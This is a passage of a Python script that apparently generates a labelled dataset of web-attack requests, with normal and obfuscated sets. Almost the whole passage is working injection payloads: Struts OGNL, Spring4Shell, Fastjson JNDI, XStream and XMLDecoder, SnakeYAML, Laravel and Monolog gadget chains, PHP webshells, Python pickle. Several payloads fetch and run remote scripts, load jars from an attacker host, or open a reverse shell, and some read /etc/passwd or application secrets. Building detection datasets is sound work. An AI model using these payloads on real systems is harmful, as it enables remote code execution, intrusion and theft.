    "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"
)


def cat_java_injection():
    h = oob
    L = []
    # ---- normal (30)
    L.append(
        A(
            "query_key",
            "redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),#m=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#m.getWriter().println(#e),#m.getWriter().flush(),#m.getWriter().close()}",
            path="/login.action",
            noeq=True,
            fill=False,
        )
    )
    L.append(
        A(
            "header",
            OGNL_S2045.replace("{CMD}", "id"),
            hname="Content-Type",
            method="POST",
            hbody=False,
            path="/struts2-showcase/fileupload/doUpload.action",
        )
    )
    L.append(
        A(
            "path",
            '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
            path="/{P}/",
            method="GET",
        )
    )
    L.append(
        A(
            "path",
            "${(#_memberAccess['allowStaticMethodAccess']=true).(#a=@java.lang.Runtime@getRuntime().exec('whoami')).(@org.apache.commons.io.IOUtils@toString(#a.getInputStream()))}",
            path="/struts2-showcase/{P}/actionChain1.action",
        )
    )
    L.append(
        A(
            "header",
            'T(java.lang.Runtime).getRuntime().exec("touch /tmp/.sc_%s")' % tok(6),
            hname="spring.cloud.function.routing-expression",
            method="POST",
            path="/functionRouter",
            extra={"data": "hello"},
        )
    )
    L.append(
        A(
            "json",
            '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}',
            method="POST",
            path="/actuator/gateway/routes/r%s" % tok(4),
            jbody={
                "id": "r1",
                "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": TOKEN}}],
                "uri": "http://example.com",
            },
        )
    )
    L.append(
        A(
            "form",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            as_key=True,
            kval='%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i',
            extra_form=[
                ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", ""),
            ],
            hdrs=[("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%")],
            path="/app/greeting",
            fill=False,
        )
    )
    L.append(
        A(
            "form",
            'username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("curl http://%s/sd")]' % h(),
            as_key=True,
            kval="x",
            extra_form=[("password", "x"), ("repeatedPassword", "x")],
            path="/users",
            fill=False,
        )
    )
    L.append(
        A(
            "query",
            '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}',
            param="message",
            path="/faces/feedback.xhtml",
        )
    )
    L.append(
        A(
            "json",
            ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://%s:1389/Exploit" % aip(), "autoCommit": True}],
            param="handler",
            extra={"name": "nightly-export"},
            path="/api/v1/jobs",
        )
    )
    L.append(
        A(
            "json",
            {
                "@type": "com.sun.rowset.JdbcRowSetImpl",
                "dataSourceName": "rmi://%s:1099/Object" % aip(),
                "autoCommit": True,
            },
            param="payload",
            path="/api/events/ingest",
        )
    )
    L.append(
        A(
            "json",
            {
                "a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                "b": {
                    "@type": "com.sun.rowset.JdbcRowSetImpl",
                    "dataSourceName": "ldap://%s/Basic/Command/Base64/aWQ=" % h(),
                    "autoCommit": True,
                },
            },
            param="data",
            path="/api/config/import",
        )
    )
    L.append(
        A(
            "xml",
            '<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.EventHandler">\n      <target class="java.lang.ProcessBuilder">\n        <command>\n          <string>/bin/sh</string>\n          <string>-c</string>\n          <string>curl -s http://%s/x | sh</string>\n        </command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n'
            % aip(),
            xml="doc",
            path="/struts2-rest-showcase/orders/3",
            method="PUT",
            ct="application/xml",
        )
    )
    L.append(
        A(
            "xml",
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">\n<soapenv:Header>\n<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">\n<java version="1.8.0_131" class="java.beans.XMLDecoder">\n<void class="java.lang.ProcessBuilder">\n<array class="java.lang.String" length="3">\n<void index="0"><string>/bin/bash</string></void>\n<void index="1"><string>-c</string></void>\n<void index="2"><string>ping -c 2 %s</string></void>\n</array>\n<void method="start"/></void>\n</java>\n</work:WorkContext>\n</soapenv:Header>\n<soapenv:Body/>\n</soapenv:Envelope>\n'
            % h(),
            xml="doc",
            path="/wls-wsat/CoordinatorPortType",
            method="POST",
            ct="text/xml",
        )
    )
    L.append(
        A(
            "multipart",
            '!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://%s/yaml-payload.jar"]\n  ]]\n]\n'
            % aip(),
            mp="file",
            filename="application.yml",
            fct="application/x-yaml",
            fieldname="config",
            path="/api/settings/upload",
        )
    )
    L.append(
        A(
            "form",
            'def proc = "id".execute(); proc.waitFor(); println proc.text',
            param="script",
            extra_form=[("Jenkins-Crumb", tok(64, HEXD)), ("Submit", "Run")],
            path="/script",
            fill=False,
        )
    )
    L.append(
        A(
            "query",
            'java.lang.Runtime.getRuntime().exec("nslookup %s")' % h(),
            param="rule",
            path="/api/pricing/rules/test",
        )
    )
    L.append(A("cookie", java_urldns(h()), cname="userPrefs", path="/portal/home"))
    L.append(
        A(
            "multipart",
            "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='uname -a').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getOutputStream()))}b",
            mp="filename",
            fieldname="upload",
            fct="text/plain",
            fcontent="x",
            path="/struts2-showcase/fileupload/doUpload.action",
        )
    )
    L.append(
        A(
            "json",
            "!!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://%s:1389/Obj\n  autoCommit: true\n" % aip(),
            param="yaml",
            extra={"name": "pipeline-defaults"},
            path="/api/pipelines/validate",
        )
    )
    L.append(
        A(
            "json",
            ["org.apache.xbean.propertyeditor.JndiConverter", {"asText": "ldap://%s:1389/Deser" % h()}],
            param="converter",
            deep=True,
            path="/api/v2/reports",
        )
    )
    L.append(
        A(
            "json",
            'script::Runtime r = Runtime.getRuntime(); r.exec("curl http://%s/unomi");' % h(),
            method="POST",
            path="/context.json",
            jbody={
                "filters": [
                    {
                        "id": "boom",
                        "filters": [
                            {
                                "condition": {
                                    "parameterValues": {
                                        "propertyName": "prop",
                                        "comparisonOperator": "equals",
                                        "propertyValue": TOKEN,
                                    },
                                    "type": "profilePropertyCondition",
                                }
                            }
                        ],
                    }
                ],
                "sessionId": "s-%s" % tok(6),
            },
        )
    )
    L.append(
        A(
            "json",
            '(#r=#this.getClass().forName("java.lang.Runtime")).(#g=#r.getDeclaredMethods().{^ #this.name.equals("getRuntime")}[0]).(#o=#g.invoke(null,null)).(#e=#r.getDeclaredMethods().{? #this.name.equals("exec")}.{? #this.getParameters()[0].getType().getName().equals("java.lang.String")}.{? #this.getParameters().length < 2}[0]).(#e.invoke(#o,"touch /tmp/ognl"))',
            method="POST",
            path="/context.json",
            jbody={
                "personalizations": [
                    {
                        "id": "gender-test",
                        "strategy": "matching-first",
                        "strategyOptions": {"fallback": "var2"},
                        "contents": [
                            {
                                "filters": [
                                    {
                                        "condition": {
                                            "parameterValues": {
                                                "propertyName": TOKEN,
                                                "comparisonOperator": "equals",
                                                "propertyValue": "male",
                                            },
                                            "type": "profilePropertyCondition",
                                        }
                                    }
                                ],
                                "contentId": "var1",
                            }
                        ],
                    }
                ],
                "sessionId": "s-%s" % tok(6),
            },
        )
    )
    L.append(
        A(
            "xml",
            "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
            param="email",
            path="/api/users/register",
        )
    )
    L.append(
        A(
            "json",
            "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'touch /tmp/bv')}",
            param="email",
            extra={"name": "Jo"},
            path="/api/accounts",
        )
    )
    L.append(
        A(
            "query",
            "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://%s/repo/')\n@Grab(group='org.poc', module='poc', version='1')\nimport Poc;"
            % aip(),
            param="value",
            q=[("sandbox", "true")],
            fill=False,
            path="/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript",
        )
    )
    L.append(
        A(
            "form",
            java_urldns(h()),
            param="javax.faces.ViewState",
            extra_form=[("j_idt12", "j_idt12"), ("j_idt12:name", "test")],
            path="/faces/index.xhtml",
            fill=False,
        )
    )
    L.append(A("path", '__${T(java.lang.Runtime).getRuntime().exec("touch /tmp/vm")}__::.x', path="/doc/{P}"))
    L.append(
        A(
            "json_key",
            "#{T(java.lang.Runtime).getRuntime().exec('curl http://%s/k')}" % h(),
            kval="enabled",
            path="/api/tenant/settings",
        )
    )
    L.append(
        A(
            "form",
            "aaa'+{Class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}+'",
            param="queryString",
            path="/pages/createpage-entervariables.action",
            q=[("SpaceKey", "x")],
        )
    )
    # ---- hard (20)
    L.append(
        Hd(
            "form",
            "%{(#r=@java.lang.Runtime@getRuntime()).(#r.exec('\\u0074\\u006f\\u0075\\u0063\\u0068 /tmp/o'))}",
            param="name",
            path="/register.action",
        )
    )
    L.append(
        Hd(
            "query",
            "%{(#c=@java.lang.Class@forName('java.lang.Run'+'time')).(#m=#c.getMethod('getRu'+'ntime',null)).(#o=#m.invoke(null,null)).(#o.exec('id'))}",
            param="user",
            path="/showcase.action",
        )
    )
    L.append(
        Hd(
            "header",
            "''.class.forName('java.lang.Ru'.concat('ntime')).getMethod('exec',''.class).invoke(''.class.forName('java.lang.Ru'.concat('ntime')).getMethod('getRuntime').invoke(null),'id')",
            hname="spring.cloud.function.routing-expression",
            method="POST",
            path="/functionRouter",
        )
    )
    L.append(
        Hd(
            "json",
            "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"s=[3];s[0]='/bin/sh';s[1]='-c';s[2]='id';java.lang.Runtime.getRuntime().exec(s);\")",
            param="condition",
            extra={"ruleId": "discount-%d" % rng.randint(10, 99)},
            path="/api/rules/evaluate",
        )
    )
    L.append(
        Hd(
            "header",
            "T(java.lang.Runtime).getRuntime().exec(new java.lang.String(T(java.util.Base64).getDecoder().decode('%s')))"
            % b64("curl -s http://%s/i.sh -o /tmp/i.sh" % aip()),
            hname="spring.cloud.function.routing-expression",
            method="POST",
            path="/functionRouter",
        )
    )
    L.append(
        Hd(
            "json",
            "#{T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))}",
            param="value",
            deep=11,
            path="/actuator/gateway/routes/r7",
        )
    )
    L.append(
        Hd(
            "json",
            {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://%s/a" % h(), "autoCommit": True},
            param="body",
            jesc="rand",
            path="/api/webhooks/test",
        )
    )
    L.append(
        Hd(
            "json",
            {
                "@type": "Lcom.sun.rowset.JdbcRowSetImpl;",
                "dataSourceName": "rmi://%s:1099/x" % aip(),
                "autoCommit": True,
            },
            param="ext",
            path="/api/device/report",
        )
    )
    L.append(
        Hd(
            "multipart",
            compact(
                {
                    "@type": "LLcom.sun.rowset.JdbcRowSetImpl;;",
                    "dataSourceName": "ldap://%s:1389/y" % aip(),
                    "autoCommit": True,
                }
            ),
            param="metadata",
            extra_parts=[("title", "quarterly.pdf")],
            path="/api/documents",
        )
    )
    L.append(
        Hd(
            "multipart",
            '!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> [[!<tag:yaml.org,2002:java.net.URL> ["http://%s/p.jar"]]]]\n'
            % aip(),
            mp="file",
            filename="values.yaml",
            fct="text/yaml",
            fieldname="file",
            path="/api/helm/lint",
        )
    )
    L.append(
        Hd(
            "json",
            '%%TAG !j! tag:yaml.org,2002:\n---\n!j!javax.script.ScriptEngineManager [!j!java.net.URLClassLoader [[!j!java.net.URL ["http://%s/a.jar"]]]]\n'
            % h(),
            param="manifest",
            path="/api/apps/deploy",
        )
    )
    L.append(
        Hd(
            "xml",
            '<sorted-set>\n  <string>a</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.&#69;ventHandler">\n      <target class="java.lang.Process&#66;uilder">\n        <command><string>/bin/sh</string><string>-c</string><string>wget -qO- http://%s/s|sh</string></command>\n      </target>\n      <action>st&#97;rt</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n'
            % aip(),
            xml="doc",
            path="/api/orders/import",
            method="POST",
            ct="application/xml",
        )
    )
    L.append(
        Hd(
            "xml",
            '<?xml version="1.0" encoding="UTF-8"?>\n<java class="java.beans.XMLDecoder">\n <void class="java.lang.&#x50;rocessBuilder">\n  <array class="java.lang.String" length="3">\n   <void index="0"><string>&#x2f;bin&#x2f;sh</string></void>\n   <void index="1"><string>-c</string></void>\n   <void index="2"><string>&#x63;url http://%s/xd</string></void>\n  </array>\n  <void method="st&#x61;rt"/>\n </void>\n</java>\n'
            % h(),
            xml="doc",
            path="/api/legacy/bean",
            method="POST",
            ct="text/xml",
        )
    )
    L.append(
        Hd(
            "query",
            "${''.getClass().forName('java.lang.Run'+='time').getMethod('getRuntime').invoke(null).exec('id')}",
            param="lang",
            path="/app/welcome.jsf",
        )
    )
    L.append(
        Hd(
            "query",
            '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("curl http://%s/ast")})\ndef x'
            % h(),
            param="value",
            q=[("sandbox", "true")],
            fill=False,
            path="/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile",
        )
    )
    L.append(
        Hd(
            "cookie",
            b64(_gzip.compress(base64.b64decode(java_urldns(h())), mtime=0)),
            cname="viewstate",
            path="/portal/dashboard",
        )
    )
    L.append(
        Hd(
            "form",
            "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
            as_key=True,
            kval=".jsp",
            enc="full",
            extra_form=[("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT")],
            path="/app/register",
            fill=False,
        )
    )
    L.append(
        Hd(
            "form",
            '\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance().getEngineByName(\\u0027JavaScript\\u0027).\\u0065val(\\u0027java.lang.Runtime.getRuntime().exec("id")\\u0027)}+\\u0027',
            param="queryString",
            path="/pages/doenterpagevariables.action",
        )
    )
    L.append(
        Hd(
            "json",
            "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://%s/x.sql'" % aip(),
            param="jdbcUrl",
            extra={"driver": "org.h2.Driver", "name": "analytics"},
            path="/api/datasources/test",
        )
    )
    L.append(
        Hd(
            "path",
            '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("whoami").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-R",#a))}',
            path="/{P}/",
            pstyle="full",
        )
    )
    return L


def cat_php_injection():
    h = oob
    L = []
    shell = "<?php system($_GET['c']); ?>"
    L.append(A("query", "php://filter/convert.base64-encode/resource=index.php", param="page", path="/index.php"))
    L.append(A("query", "data://text/plain;base64," + b64(shell), param="file", q=[("c", "id")], path="/view.php"))
    L.append(A("form", "1);system('id');//", param="expr", path="/tools/calc.php"))
    L.append(A("query", "{${system($_GET['c'])}}", param="name", q=[("c", "id")], path="/greet.php"))
    laravel_faker = PObj(
        "Illuminate\\Broadcasting\\PendingBroadcast",
        [
            ("events", "protected", PObj("Faker\\Generator", [("formatters", "protected", {"dispatch": "system"})])),
            ("event", "protected", "id"),
        ],
    )
    L.append(A("cookie", php_ser(laravel_faker), cname="cart_state", path="/cart"))
    monolog = PObj(
        "Monolog\\Handler\\SyslogUdpHandler",
        [
            (
                "socket",
                "protected",
                PObj(
                    "Monolog\\Handler\\BufferHandler",
                    [
                        ("handler", "protected", PRef(2)),
                        ("bufferSize", "protected", -1),
                        ("buffer", "protected", [{0: "cat /etc/passwd", "level": None}]),
                        ("level", "protected", None),
                        ("initialized", "protected", True),
                        ("bufferLimit", "protected", -1),
                        ("processors", "protected", ["current", "system"]),
                    ],
                ),
            )
        ],
    )
    L.append(A("form", php_ser(monolog), param="data", path="/api/session/restore"))
    dcmd = "curl http://%s/l" % h()
    dispatcher = PObj(
        "Illuminate\\Broadcasting\\PendingBroadcast",
        [
            (
                "events",
                "protected",
                PObj("Illuminate\\Events\\Dispatcher", [("listeners", "protected", {dcmd: ["system"]})]),
            ),
            ("event", "protected", dcmd),
        ],
    )
    L.append(A("json", php_ser(dispatcher), param="state", path="/api/wizard/resume"))
    L.append(A("query", "phar://./uploads/avatars/%s.jpg/x" % tok(8, HEXD), param="path", path="/thumb.php"))
    L.append(
        A(
            "multipart",
            "<?php echo shell_exec($_REQUEST['c'] ?? 'id'); ?>\n",
            mp="file",
            filename="shell.php",
            fct="application/x-php",
            fieldname="attachment",
            path="/upload.php",
        )
    )
    L.append(
        A(
            "multipart",
            "GIF89a;\n<?php system($_GET['c']); ?>\n",
            mp="file",
            filename="avatar.php.gif",
            fct="image/gif",
            fieldname="avatar",
            path="/profile/avatar",
        )
    )
    L.append(
        A(
            "query",
            "/^(.*)$/e",
            param="pattern",
            q=[("replacement", "system('id')"), ("subject", "x")],
            path="/regex-test.php",
            fill=False,
        )
    )
    L.append(A("query", "' and die(system('id')) or '", param="page", path="/index.php"))
    L.append(A("form", "passthru('cat /etc/passwd');", param="code", path="/admin/debug/console.php"))
    L.append(A("query", "x']);}system('id');//", param="orderby", path="/list.php"))
    L.append(
        A(
            "form",
            "call_user_func_array('passthru', array('ls -la /var/www'));",
            param="snippet",
            path="/admin/hooks/save",
        )
    )
    L.append(A("header", "<?php system($_GET['c']); ?>", hname="User-Agent", path="/index.php", q=[("page", "home")]))
    L.append(
        A("json", "<?=`$_GET[0]`?>", param="footer_html", deep=True, path="/api/themes/custom/footer", method="PUT")
    )
    L.append(
        A(
            "xml",
            "','')); system('id'); exit;/*",
            param="name",
            path="/xmlrpc.php",
            xtpl='<?xml version="1.0"?>\n<methodCall>\n  <methodName>test.method</methodName>\n  <params><param><value><name>{v}</name></value></param></params>\n</methodCall>\n',
        )
    )
    L.append(A("query", "expect://id", param="file", path="/download.php"))
    L.append(
        A(
            "query",
            "php://input",
            param="page",
            method="POST",
            rawbody="<?php system('uname -a'); ?>",
            ct="application/x-www-form-urlencoded",
            path="/index.php",
        )
    )
    L.append(
        A("query", "zip://uploads/2026/12/avatar_%d.jpg#shell" % rng.randint(100, 999), param="page", path="/index.php")
    )
    L.append(A("query", "php://filter/read=string.rot13/resource=config.php", param="view", path="/main.php"))
    guzzle = PObj(
        "GuzzleHttp\\Cookie\\FileCookieJar",
        [
            ("filename", "private:GuzzleHttp\\Cookie\\FileCookieJar", "/var/www/html/public/c.php"),
            ("storeSessionCookies", "private:GuzzleHttp\\Cookie\\FileCookieJar", True),
            (
                "cookies",
                "private:GuzzleHttp\\Cookie\\CookieJar",
                [
                    PObj(
                        "GuzzleHttp\\Cookie\\SetCookie",
                        [
                            (
                                "data",
                                "private:GuzzleHttp\\Cookie\\SetCookie",
                                {"Expires": 1, "Discard": False, "Value": "<?php system($_GET['c']); ?>"},
                            )
                        ],
                    )
                ],
            ),
            ("strictMode", "private:GuzzleHttp\\Cookie\\CookieJar", None),
        ],
    )
    L.append(A("form", php_ser(guzzle), param="import_blob", path="/admin/import"))
    L.append(A("json_key", "x' => system($_GET['c']), '", kval="1", path="/install/config/save"))
    L.append(A("form", "lang']=phpinfo();//", as_key=True, kval="en", path="/admin/settings.php"))
    L.append(
        A(
            "query_key",
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
            noeq=True,
            method="POST",
            rawbody="<?php echo shell_exec('id'); ?>",
            fill=False,
            path="/index.php",
        )
    )
    L.append(A("header", "<?php passthru($_GET['cmd']);?>", hname="X-Forwarded-For", path="/login.php"))
    L.append(
        A("cookie", "php://filter/convert.base64-encode/resource=../config/database", cname="lang", path="/index.php")
    )
    L.append(A("path", "php://filter/convert.base64-encode/resource=../../.env", path="/lang/{P}", pstyle="raw"))
    L.append(
        A(
            "multipart",
            "0;file_put_contents('x.php','<?php eval($_POST[1]);');",
            param="formula",
            extra_parts=[("sheet", "Q4")],
            path="/reports/calc",
        )
    )
    # ---- hard (20)
    L.append(
        Hd(
            "query",
            "php://filter/convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=../config.php",
            param="page",
            path="/index.php",
        )
    )
    L.append(Hd("query", "PHP://FilTer/read=convert.base64-encode/resource=index", param="p", path="/"))
    L.append(Hd("query", "data:text/plain,<?php system($_GET[1]);?>", param="inc", q=[("1", "id")], path="/page.php"))
    L.append(
        Hd(
            "form",
            '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
            param="code",
            q=[("_", "system"), ("__", "id")],
            path="/sandbox/run.php",
        )
    )
    L.append(Hd("form", "('sy'.'stem')('id');", param="code", path="/sandbox/run.php"))
    L.append(
        Hd("json", "array_map('sys'.'tem', array('cat /etc/hosts'));", param="expression", path="/api/formula/eval")
    )
    L.append(Hd("form", "$f=strrev('metsys');$f('id');", param="tpl_code", path="/admin/templates/preview"))
    L.append(
        Hd("multipart", "eval(base64_decode('%s'));" % b64("system('id');"), param="php_snippet", path="/admin/widgets")
    )
    L.append(Hd("query", "echo `id`;", param="calc", path="/tools/eval.php"))
    L.append(
        Hd(
            "json",
            "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f(chr(105).chr(100));",
            param="code",
            path="/api/plugins/run",
        )
    )
    L.append(
        Hd(
            "cookie",
            php_ser(
                PObj(
                    "Illuminate\\Broadcasting\\PendingBroadcast",
                    [
                        (
                            "events",
                            "protected",
                            PObj("Faker\\Generator", [("formatters", "protected", {"dispatch": "system"})]),
                        ),
                        ("event", "protected", "uname -a"),
                    ],
                )
            ).replace("O:", "O:+"),
            cname="remember_state",
            path="/dashboard",
        )
    )
    L.append(
        Hd(
            "form",
            php_ser(laravel_faker).replace('s:6:"system";', 'S:6:"\\73\\79\\73\\74\\65\\6d";'),
            param="payload",
            path="/api/queue/retry",
        )
    )
    L.append(Hd("cookie", b64(php_ser(guzzle)), cname="prefs", path="/account"))
    L.append(
        Hd(
            "query_key",
            "\u00add allow_url_include=1 \u00add auto_prepend_file=php://input",
            enc="latin1",
            noeq=True,
            method="POST",
            rawbody="<?php system('whoami'); ?>",
            fill=False,
            path="/php-cgi/php-cgi.exe",
        )
    )
    L.append(
        Hd(
            "multipart",
            "<?=@$_GET[0]($_GET[1]);",
            mp="file",
            filename="thumb.phtml",
            fct="image/jpeg",
            fieldname="image",
            path="/media/upload",
        )
    )
    L.append(
        Hd(
            "query",
            "compress.zlib://phar:///var/www/uploads/img_%d.png/test" % rng.randint(1000, 9999),
            param="src",
            path="/image/info.php",
        )
    )
    L.append(
        Hd(
            "query",
            "php://filter/read=convert.base64-decode/resource=data://plain/text," + b64("<?php system('id');?>"),
            param="page",
            path="/index.php",
        )
    )
    L.append(Hd("header", "<?php /**/ SyStEm($_COOKIE['x']);?>", hname="User-Agent", path="/"))
    L.append(
        Hd(
            "xml",
            "','')); eval(base64_decode('%s')); exit;/*" % b64("system('id');"),
            param="name",
            xesc="cdata",
            path="/xmlrpc.php",
            xtpl='<?xml version="1.0"?>\n<methodCall>\n  <methodName>blogger.getUsersBlogs</methodName>\n  <params><param><value><name>{v}</name></value></param></params>\n</methodCall>\n',
        )
    )
    L.append(
        Hd(
            "json",
            '<?php system($_GET["c"]); ?>',
            param="content",
            jesc="punct",
            extra={"filename": "cache_%s.php" % tok(5)},
            path="/api/editor/save",
        )
    )
    return L


def cat_code_injection():
    h = oob
    L = []
    L.append(A("query", "__import__('os').popen('id').read()", param="expr", path="/api/calc"))
    L.append(
        A(
            "json",
            "__import__('subprocess').check_output(['cat','/etc/passwd'])",
            param="formula",
            extra={"sheet": "budget"},
            path="/api/sheets/compute",
        )
    )
    L.append(
        A(
            "form",
            '!!python/object/apply:os.system ["curl http://%s/$(whoami)"]' % h(),
            param="config",
            path="/settings/import",
        )
    )
    L.append(A("cookie", b64("cos\nsystem\n(S'curl http://%s/p'\ntR." % h()), cname="session_state", path="/app"))
    L.append(
        A(
            "json",
            "require('child_process').execSync('id').toString()",
            param="script",
            path="/api/v1/reports/transform",
        )
    )
    L.append(
        A(
            "query",
            "process.mainModule.require('child_process').execSync('cat /etc/passwd')",
            param="fn",
            path="/api/sort",
        )
    )
    L.append(
        A(
            "json",
            "_$$ND_FUNC$$_function(){require('child_process').exec('curl http://%s/ns',function(e,o){})}()" % h(),
            param="rce",
            extra={"username": "ajin"},
            path="/api/profile",
        )
    )
    L.append(A("form", "Kernel.system('curl http://%s/rb')" % h(), param="template_code", path="/admin/reports/custom"))
    L.append(A("query", "|curl -s http://%s/x.sh | sh" % aip(), param="url", path="/fetch"))
    L.append(A("json", "IO.popen('id').read", param="transform", path="/api/etl/preview"))
    L.append(A("query", "cat /etc/passwd|", param="file", path="/cgi-bin/view.pl"))
    L.append(A("form", '@{[ system "id" ]}', param="greeting", path="/cgi-bin/card.pl"))
    L.append(
        A(
            "json",
            "os.execute('curl http://%s/l')" % h(),
            param="script",
            extra={"hook": "on_join"},
            path="/api/server/scripts",
        )
    )
    L.append(A("query", "io.popen('id'):read('*a')", param="expr", path="/lua/eval"))
    L.append(
        A(
            "multipart",
            '@System.Diagnostics.Process.Start("cmd.exe","/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt")',
            param="template",
            path="/Admin/EmailTemplates/Save",
        )
    )
    L.append(
        A(
            "json",
            'System.Diagnostics.Process.Start("powershell","-c iwr http://%s/n")' % h(),
            param="expression",
            path="/api/automation/evaluate",
        )
    )
    L.append(A("query", '{{ .File "/etc/passwd" }}', param="tpl", path="/preview"))
    L.append(
        A("json", '{{ .Request.Header.Get "Authorization" }}', param="message_template", path="/api/notifications/test")
    )
    L.append(A("json", 'system("id", intern=TRUE)', param="r_code", path="/ocpu/library/base/R/eval"))
    L.append(A("query", 'readLines(pipe("id"))', param="expr", path="/shiny/eval"))
    L.append(
        A(
            "header",
            "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
            hname="X-Sort-Fn",
            path="/api/items",
        )
    )
    L.append(A("path", "__import__('os').popen('cat /etc/passwd').read()", path="/calc/{P}"))
    L.append(A("path", "1;require('child_process').exec('curl http://%s/p')" % h(), path="/api/v1/sum/{P}"))
    L.append(A("xml", "__import__('os').system('id')", param="expression"))
    L.append(A("xml", 'eval(%q(system("id")))', param="filter", path="/api/rules"))
    L.append(
        A(
            "json_key",
            "__proto__",
            kval={
                "shell": "/proc/self/exe",
                "argv0": "console.log(require('child_process').execSync('id').toString())//",
                "NODE_OPTIONS": "--require /proc/self/cmdline",
            },
            path="/api/users/merge",
        )
    )
    L.append(
        A(
            "multipart",
            "import os\nos.system('curl http://%s/p | sh')\n" % aip(),
            mp="file",
            filename="plugin.py",
            fct="text/x-python",
            fieldname="plugin",
            path="/api/plugins/install",
        )
    )
    L.append(
        A(
            "form",
            "{user.__class__.__init__.__globals__[app].config[SECRET_KEY]}",
            param="display_format",
            path="/account/preferences",
        )
    )
    L.append(A("cookie", '!!python/object/new:os.system ["id"]', cname="ui_state", path="/home"))
    L.append(
        A(
            "query",
            "exec(\"import socket,subprocess;s=socket.socket();s.connect(('%s',4444));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\")"
            % aip(),
            param="code",
            path="/api/notebook/run",
        )
    )
    # ---- hard (20)
    L.append(
        Hd(
            "query",
            "getattr(__import__('bu'+'iltins'),'ev'+'al')(\"__import__('os').system('id')\")",
            param="q",
            path="/api/calc",
        )
    )
    L.append(
        Hd(
            "json",
            "eval(bytes.fromhex('%s'))" % "__import__('os').system('id')".encode().hex(),
            param="formula",
            path="/api/sheets/compute",
        )
    )
    L.append(
        Hd(
            "form",
